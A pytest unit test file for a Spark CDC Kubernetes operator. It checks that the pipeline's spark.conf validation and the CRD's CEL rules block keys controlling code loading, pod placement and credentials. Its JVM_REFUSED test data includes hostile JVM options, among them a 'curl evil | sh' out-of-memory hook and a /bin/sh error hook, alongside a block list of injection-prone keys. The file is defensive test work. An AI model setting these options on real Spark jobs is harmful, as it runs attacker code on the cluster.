"""``spec.spark.conf`` guardrails: keys that decide where and how pods run, what code they load, and
credentials are refused by the models; the CRD carries the same patterns as CEL rules (the API
server refusing them at apply is proven in tests/e2e/test_chart_security.py)."""

from __future__ import annotations

import re
from typing import Any

import pytest
from pydantic import ValidationError

from harness.reconcile_fixtures import pipeline_obj
from sparkcdc.api import CdcPipeline
from sparkcdc.api.crd import crd_document
from sparkcdc.api.errors import translate_errors
from sparkcdc.api.spark_conf import (
    CREDENTIAL_KEY,
    JAVA_OPTIONS_KEY,
    JVM_TUNING,
    PROVIDER_KEY,
    REFUSED_KEY,
    conf_rules,
)
from sparkcdc.spark.session import LOCAL_JVM_OPTIONS

pytestmark = pytest.mark.unit

SECRET_VALUE = "wJalrXUtnFEMI-K7MDENG-bPxRfiCY"

REFUSED = [
    "spark.kubernetes.container.image",
    "spark.kubernetes.authenticate.executor.serviceAccountName",
    "spark.kubernetes.executor.podTemplateFile",
    "spark.kubernetes.container.image.pullSecrets",
    "spark.master",
    "spark.remote",
    "spark.submit.deployMode",
    "spark.submit.pyFiles",
    "spark.jars",
    "spark.jars.packages",
    "spark.jars.repositories",
    "spark.files",
    "spark.archives",
    "spark.driver.extraClassPath",
    "spark.executor.extraClassPath",
    "spark.executor.extraLibraryPath",
    "spark.plugins",
    "spark.executor.plugins",
    "spark.extraListeners",
    "spark.sql.queryExecutionListeners",
    "spark.executor.resource.gpu.discoveryScript",
    "spark.executorEnv.LD_PRELOAD",
    "spark.pyspark.python",
    "spark.pyspark.driver.python",
    "spark.python.daemon.module",
    "spark.python.worker.module",
    "spark.sql.hive.metastore.jars",
    "spark.metrics.conf.*.sink.graphite.class",
    "spark.driver.host",
    "spark.driver.bindAddress",
    "spark.driver.port",
    "spark.blockManager.port",
    "spark.local.dir",
    "spark.ui.enabled",
    "spark.redaction.regex",
    "spark.authenticate",
    "spark.authenticate.secret.file",
    "spark.network.crypto.enabled",
    "spark.ssl.enabled",
    "spark.kerberos.keytab",
]

CREDENTIALS = [
    "spark.hadoop.fs.s3a.access.key",
    "spark.hadoop.fs.s3a.secret.key",
    "spark.hadoop.fs.s3a.bucket.lake.secret.key",
    "spark.hadoop.fs.s3a.session.token",
    "spark.hadoop.fs.azure.account.key.lake.dfs.core.windows.net",
    "spark.hadoop.fs.azure.sas.fixed.token",
    "spark.hadoop.fs.azure.sas.container.lake.blob.core.windows.net",
    "spark.hadoop.fs.azure.account.oauth2.client.secret",
    "spark.hadoop.fs.gs.auth.service.account.private.key",
    "spark.hadoop.javax.jdo.option.ConnectionPassword",
    "spark.hadoop.fs.s3a.encryption.key",
]

# What pipelines need to set: SQL tuning, resources, object-store endpoints and provider classes,
# JVM tuning (the e2e suite's real drivers set spark.driver.extraJavaOptions to LOCAL_JVM_OPTIONS).
ALLOWED: dict[str, str] = {
    "spark.sql.shuffle.partitions": "8",
    "spark.sql.extensions": "com.example.Extension",
    "spark.executor.instances": "5",
    "spark.executor.memory": "4g",
    "spark.executor.memoryOverhead": "1g",
    "spark.driver.memory": "2g",
    "spark.driver.maxResultSize": "1g",
    "spark.dynamicAllocation.enabled": "false",
    "spark.hadoop.fs.s3a.endpoint.region": "eu-central-1",
    "spark.hadoop.fs.s3a.endpoint": "https://minio.lake.svc:9000",
    "spark.hadoop.fs.s3a.aws.credentials.provider": "com.amazonaws.auth.WebIdentityTokenCredentialsProvider",
    "spark.hadoop.fs.azure.account.oauth.provider.type": "org.example.MsiTokenProvider",
    "spark.hadoop.fs.azure.sas.token.provider.type": "com.example.SasTokenProvider",
    "spark.io.encryption.enabled": "true",
    "spark.speculation": "false",
    "spark.driver.extraJavaOptions": LOCAL_JVM_OPTIONS,
    "spark.executor.extraJavaOptions": "-XX:+UseG1GC -XX:MaxRAMPercentage=75.0 -XX:ParallelGCThreads=2",
}

JVM_REFUSED = [
    "-XX:OnOutOfMemoryError=sh -c 'curl evil | sh'",
    "-XX:OnError=/bin/sh",
    "-javaagent:/tmp/agent.jar",
    "-Dspark.kubernetes.container.image=evil",
    "-XX:+UseG1GC -agentpath:/tmp/x.so",
    "-XX:Flags=/tmp/flags",
    "-XX:HeapDumpPath=/tmp/dump",
    "@/tmp/argfile",
]


def conf_errors(conf: dict[str, str]) -> list[str]:
    obj = pipeline_obj(spark={"conf": conf})
    with pytest.raises(ValidationError) as raised:
        CdcPipeline.from_k8s(obj)
    return translate_errors(raised.value, CdcPipeline)


@pytest.mark.parametrize("key", REFUSED)
def test_keys_that_decide_pods_or_code_are_refused(key: str) -> None:
    (line,) = conf_errors({key: "x"})
    assert line.startswith(f"spec.spark.conf[{key}]: not allowed in spec.spark.conf: ")
    assert "Security model" in line


@pytest.mark.parametrize("key", CREDENTIALS)
def test_credentials_are_refused_without_showing_them(key: str) -> None:
    (line,) = conf_errors({key: SECRET_VALUE})
    assert line.startswith(f"spec.spark.conf[{key}]: looks like a credential")
    assert "spec.sink.credentials" in line and "secretKeyRef" in line
    assert SECRET_VALUE not in line


def test_the_keys_pipelines_need_stay_open() -> None:
    spark = CdcPipeline.from_k8s(pipeline_obj(spark={"conf": ALLOWED})).spec.spark
    assert spark.conf == ALLOWED


@pytest.mark.parametrize("value", JVM_REFUSED)
@pytest.mark.parametrize("key", ["spark.driver.extraJavaOptions", "spark.executor.defaultJavaOptions"])
def test_java_options_may_only_tune_the_jvm(key: str, value: str) -> None:
    (line,) = conf_errors({key: value})
    assert line.startswith(f"spec.spark.conf[{key}]: may only hold JVM tuning flags")
    assert value not in line


# The same strings are the CRD's CEL patterns (RE2); these check that they mean what the models do.
@pytest.mark.parametrize("key", REFUSED)
def test_cel_pattern_refuses_the_same_keys(key: str) -> None:
    assert re.match(REFUSED_KEY, key)


@pytest.mark.parametrize("key", sorted(ALLOWED))
def test_cel_patterns_let_the_needed_keys_through(key: str) -> None:
    assert not re.match(REFUSED_KEY, key)
    assert not re.search(CREDENTIAL_KEY, key) or re.search(PROVIDER_KEY, key)
    assert not re.match(JAVA_OPTIONS_KEY, key) or re.match(JVM_TUNING, ALLOWED[key])


@pytest.mark.parametrize("key", CREDENTIALS)
def test_cel_pattern_refuses_the_same_credentials(key: str) -> None:
    assert re.search(CREDENTIAL_KEY, key) and not re.search(PROVIDER_KEY, key)


def _conf_schema(crd: dict[str, Any]) -> dict[str, Any]:
    spec = crd["spec"]["versions"][0]["schema"]["openAPIV3Schema"]["properties"]["spec"]
    conf: dict[str, Any] = spec["properties"]["spark"]["properties"]["conf"]
    return conf


def test_the_crd_carries_the_rules_on_the_conf_map() -> None:
    conf = _conf_schema(crd_document())
    assert conf["x-kubernetes-validations"] == conf_rules()
    rules = " ".join(rule["rule"] for rule in conf["x-kubernetes-validations"])
    for pattern in (REFUSED_KEY, CREDENTIAL_KEY, JVM_TUNING):
        assert pattern.replace("\\", "\\\\") in rules
